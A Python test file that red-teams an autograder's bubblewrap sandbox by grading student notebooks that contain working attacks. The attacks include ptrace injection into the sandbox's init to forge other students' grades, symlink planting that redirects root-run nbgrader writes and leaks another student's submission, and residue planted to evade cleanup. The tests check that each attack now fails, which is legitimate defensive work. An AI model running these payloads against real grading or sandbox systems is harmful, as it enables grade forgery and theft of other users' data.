"""Red team of the template kernels (autograder.zygote, autograder.slots), as students.

One class is graded on one worker, so the attackers and the honest students share a
template. Holes found open and closed since (each test below passes):

* **bubblewrap's init**: a kernel could ``ptrace`` pid 1 (dumpable, no capabilities, the
  same uid), which ``kill(-1)`` never reaches, and make it ``execve`` a daemon that forged
  every later student's records (zero marks for all of them). Kernels now run in a user
  namespace of their own, which holds no right over pid 1;
* **files the cleaner could not see**: a folder in /tmp made unreadable (``chmod 0``; the
  template has no capability to override it) kept its files for the next kernel; a link
  in /dev replaced by a file, and /dev made unreadable, stayed as the kernel left them;
* **POSIX message queues** (``mq_open``) lived on in the sandbox's IPC namespace, which
  ``ipcrm`` does not empty: the template mounts them on /dev/mqueue now and empties it;
* **the slot**: folders nested 3000 deep made ``shutil.rmtree`` raise RecursionError in
  the worker, and the whole class's grading failed.

* **nbgrader's output folder**: the kernel ran in the folder where nbgrader, as root and
  outside the sandbox, then writes the autograded notebook; a link planted there (or put
  there by a process that outlived the kernel) made nbgrader write anywhere and the worker
  read another student's notebook into the attacker's feedback, with or without
  templates. The kernel now works in a copy of that folder inside its own, and the
  original is out of its reach.

Two more, attacked in tests/test_sandbox_limits.py (with and without templates): a fork
bomb had no cap but the cell's 30 s (each sandbox is a pids cgroup now), and a kernel
running as root could chmod the machine's /dev/null, which bubblewrap binds (the bound
device nodes are read-only in the sandbox now).
"""

from __future__ import annotations

import shutil

import nbformat
import pytest

from autograder import grading, slots
from autograder.sandbox import Limits, kernel_environment
from tests.support.klass import fill, printed, solutions, write_submission

A = "01_rnn_limits"
NB = f"{A}.ipynb"
S = solutions(A)
LIMITS = Limits(timeout=150, cell_timeout=30)
SECRET = "VICTOR-SECRET-5e1f"
pytestmark = [
    pytest.mark.grading,
    pytest.mark.skipif(shutil.which("bwrap") is None,
                       reason="templates run only inside bubblewrap (apt-get install bubblewrap)"),
]  # fmt: skip

# ptrace bubblewrap's init (pid 1, out of kill(-1)'s reach) and have it execve a daemon
# that overwrites every record that later kernels write in the slot (x86-64 Linux).
PID1 = r'''
import ctypes, os, platform, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx "
                "rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]
DAEMON = """
import glob, os, time
end = time.time() + 90
while time.time() < end:
    try:
        while os.waitpid(-1, os.WNOHANG)[0]: pass
    except ChildProcessError: pass
    for p in glob.glob(%r + "/*.npz"):
        try: open(p, "wb").write(b"forged")
        except OSError: pass
    time.sleep(0.02)
""" % os.environ["LSTM_REF_RECORD"]
if platform.machine() != "x86_64":
    print("PID1 not x86-64")
elif libc.ptrace(16, 1, None, None) != 0:  # PTRACE_ATTACH
    print("PID1 ptrace refused")
else:
    os.waitpid(1, 0x40000000)
    regs = Regs(); libc.ptrace(12, 1, None, ctypes.byref(regs))
    with open("/proc/1/mem", "r+b", buffering=0) as mem:
        base = (regs.rsp - 16384) & ~0xF
        blob = [sys.executable.encode() + b"\0", b"-c\0", DAEMON.encode() + b"\0"]
        ptrs, p = [], base
        for b in blob:
            ptrs.append(p); p += len(b)
        argv = (p + 15) & ~0xF
        mem.seek(base); mem.write(b"".join(blob))
        mem.seek(argv); mem.write(struct.pack("<4Q", *ptrs, 0))
    regs.rax, regs.rdi, regs.rsi, regs.rdx = 59, ptrs[0], argv, argv + 24  # execve
    regs.rip -= 2; regs.orig_rax = 2**64 - 1  # back onto the syscall it was blocked in
    libc.ptrace(13, 1, None, ctypes.byref(regs)); libc.ptrace(17, 1, None, None)
    print("PID1 injected")
'''

# What the cleaner might miss: a folder it cannot read, a POSIX message queue, a link of
# /dev replaced by a file, an abstract socket kept alive in flight, /dev made unreadable.
PLANT = r"""
import ctypes, ctypes.util, os, socket
os.makedirs("/tmp/h", exist_ok=True); open("/tmp/h/secret", "w").write("left")
os.chmod("/tmp/h", 0)
rt = ctypes.CDLL(ctypes.util.find_library("rt"), use_errno=True)
rt.mq_send(rt.mq_open(b"/persist", os.O_CREAT | os.O_RDWR, 0o600, None), b"hello", 5, 0)
os.unlink("/dev/stdout"); open("/dev/stdout", "w").write("planted")
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
l = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); l.bind("\0persist"); l.listen()
socket.send_fds(a, [b"x"], [l.fileno(), b.fileno()])
os.chmod("/dev", 0)
print("PLANT done")
"""

# Folders nested 3000 deep in the slot (the notebook's folder).
DEEP = """
import os
fd = os.open(".", os.O_RDONLY)
for _ in range(3000):
    os.mkdir("d", dir_fd=fd); inner = os.open("d", os.O_RDONLY, dir_fd=fd); os.close(fd); fd = inner
print("DEEP done")
"""

# A link where nbgrader writes the autograded notebook: into the workspace, whose path
# the kernel reads in AUTOGRADER_HIDE.
WRITE = f"""
import os
_ws = [p for p in os.environ["AUTOGRADER_HIDE"].split(os.pathsep) if p.endswith("workspace")][0]
if os.path.lexists({NB!r}):
    os.remove({NB!r})
os.symlink(_ws + "/escaped.ipynb", {NB!r})
"""

# A daemon that, once nbgrader has written the autograded notebook, puts a link to the
# victim's submission in its place: the worker reads it as this student's notebook.
READ = f'''
import os, subprocess, sys
_cls = [p for p in os.environ["AUTOGRADER_HIDE"].split(os.pathsep) if p.endswith("submissions")][0]
subprocess.Popen([sys.executable, "-c", """
import os, time
end = time.time() + 60
while time.time() < end:
    try:
        if not os.path.islink({NB!r}) and ("EXE" + "CUTED") in open({NB!r}).read():
            os.remove({NB!r}); os.symlink(%r, {NB!r})
    except OSError:
        pass
    time.sleep(0.005)
""" % (_cls + "/r0_honest/{A}/{NB}")], start_new_session=True)
'''

PROBE = r"""
import ctypes, ctypes.util, os, socket
_out = []
try:
    os.chmod("/tmp/h", 0o700); _out.append("hidden:" + open("/tmp/h/secret").read())
except OSError:
    _out.append("hidden:no")
_rt = ctypes.CDLL(ctypes.util.find_library("rt"), use_errno=True)
_out.append("mq:%d" % _rt.mq_open(b"/persist", os.O_RDWR, 0, None))
_out.append("stdout-link:%s" % os.path.islink("/dev/stdout"))
_s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    _s.connect("\0persist"); _out.append("abstract:yes")
except OSError:
    _out.append("abstract:no")
_out.append("dev:%o" % (os.stat("/dev").st_mode & 0o777))
_out.append("pid1:" + os.path.basename(open("/proc/1/cmdline").read().split("\0")[0]))
print("PROBE", _out)
"""
CLEAN = "PROBE ['hidden:no', 'mq:-1', 'stdout-link:True', 'abstract:no', 'dev:755', 'pid1:bwrap']"


def _with(cell: str) -> dict[str, str]:
    return {**S, "jacobian_norms": S["jacobian_norms"] + cell}


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("redteam")
    students = {
        "r0_honest": (S, [PROBE, f"# {SECRET}"]),
        "r1_pid1": (_with(PID1), []),
        "r2_plant": (_with(PLANT), []),
        "r3_deep": (_with(DEEP), []),
        "r4_write": (_with(WRITE), []),
        "r5_read": (_with(READ), ['print("EXE" + "CUTED")']),
        "r6_honest": (S, [PROBE]),
        "r7_honest": (S, [PROBE]),
    }
    for student, (answers, cells) in students.items():
        nb = fill(A, answers)
        nb.cells += [nbformat.v4.new_code_cell(cell) for cell in cells]
        write_submission(root / "submissions", student, A, nb)
    results = grading.grade(A, root / "submissions", root / "workspace", workers=1,
                            limits=LIMITS, progress=False)  # fmt: skip
    return {r.student: r for r in results}, root


def _output(result, marker: str) -> str:
    return printed(result.autograded[NB], marker)


@pytest.mark.parametrize("student", ["r0_honest", "r6_honest", "r7_honest"])
def test_honest_students_see_nothing_and_earn_full_marks(graded, student):
    results, _ = graded
    assert results[student].status == "graded", results[student].reason
    assert results[student].total == 5, results[student].messages
    assert _output(results[student], "PROBE") == CLEAN


def test_a_kernel_cannot_ptrace_bubblewraps_init(graded):
    results, _ = graded
    out = _output(results["r1_pid1"], "PID1")
    assert out in ("PID1 ptrace refused", "PID1 not x86-64"), out


def test_the_attackers_earn_what_their_code_earns(graded):
    results, _ = graded
    assert _output(results["r2_plant"], "PLANT") == "PLANT done"
    for student in ("r1_pid1", "r2_plant", "r3_deep", "r4_write", "r5_read"):
        assert results[student].total == 5, (student, results[student].messages)


def test_a_deep_tree_in_the_slot_costs_its_own_student_at_most(graded):
    """It failed the whole class before (RecursionError in shutil.rmtree)."""
    results, _ = graded
    assert set(results) == {"r0_honest", "r1_pid1", "r2_plant", "r3_deep", "r4_write",
                            "r5_read", "r6_honest", "r7_honest"}  # fmt: skip
    assert _output(results["r3_deep"], "DEEP") == "DEEP done"


def test_an_unchanged_template_is_kept_between_submissions():
    """clean() finds nothing to report of a kernel-less template: no restart each time."""
    slot = slots.Slot(LIMITS)
    try:
        env = kernel_environment(slot.folder / "kernel", LIMITS)
        assert slot.template(env)
        slot.reset()
        slot.reset()
        assert slot.starts == 1 and slot._template is not None and slot._template.alive()
    finally:
        slot.close()


def test_a_kernel_cannot_make_nbgrader_write_outside_the_slot(graded):
    _, root = graded
    assert not (root / "workspace" / "escaped.ipynb").exists()


def test_a_kernel_cannot_read_another_submission_through_the_worker(graded):
    results, _ = graded
    stolen = results["r5_read"]
    assert SECRET.encode() not in stolen.autograded.get(NB, b"")
    assert not any(SECRET.encode() in page for page in stolen.feedback.values())


def test_nbgrader_output_folder_is_out_of_reach_without_templates_too(graded, tmp_path,
                                                                       monkeypatch):  # fmt: skip
    """The same two attacks on kernels started afresh (the folder fix is the launcher's)."""
    _, root = graded
    monkeypatch.setenv("AUTOGRADER_TEMPLATES", "0")
    for student in ("r0_honest", "r4_write", "r5_read"):
        shutil.copytree(root / "submissions" / student, tmp_path / "class" / student)
    results = {
        r.student: r
        for r in grading.grade(
            A, tmp_path / "class", tmp_path / "workspace", workers=1, limits=LIMITS, progress=False
        )
    }
    assert not (tmp_path / "workspace" / "escaped.ipynb").exists()
    stolen = results["r5_read"]
    assert SECRET.encode() not in stolen.autograded.get(NB, b"")
    assert not any(SECRET.encode() in page for page in stolen.feedback.values())
    assert results["r0_honest"].total == 5


FILL = """
import os
for _k in range(2):  # each file under the 8 MB file cap; together over the folder's cap
    try:
        with open(f"/tmp/fill{_k}", "wb") as _f:
            _f.write(os.urandom(6 * 1024 * 1024))
        print("FILL wrote", _k)
    except OSError as _e:
        print("FILL refused", _k, _e.strerror)
"""


@pytest.mark.parametrize("templates", ["1", "0"])
def test_the_sandboxs_memory_folders_are_capped(tmp_path, monkeypatch, templates):
    """/tmp and the other emptied folders are tmpfs, memory outside RLIMIT_AS: each holds at
    most the file cap (here 8 MB), so a kernel cannot fill the machine's memory with files."""
    monkeypatch.setenv("AUTOGRADER_TEMPLATES", templates)
    write_submission(tmp_path / "class", "filler", A, fill(A, _with(FILL)))
    limits = Limits(timeout=150, cell_timeout=30, file_mb=8)
    (result,) = grading.grade(A, tmp_path / "class", tmp_path / "workspace", workers=1,
                              limits=limits, progress=False)  # fmt: skip
    assert "FILL wrote 0" in result.autograded[NB].decode()
    assert "FILL refused 1 No space left on device" in result.autograded[NB].decode()
    assert result.total == 5
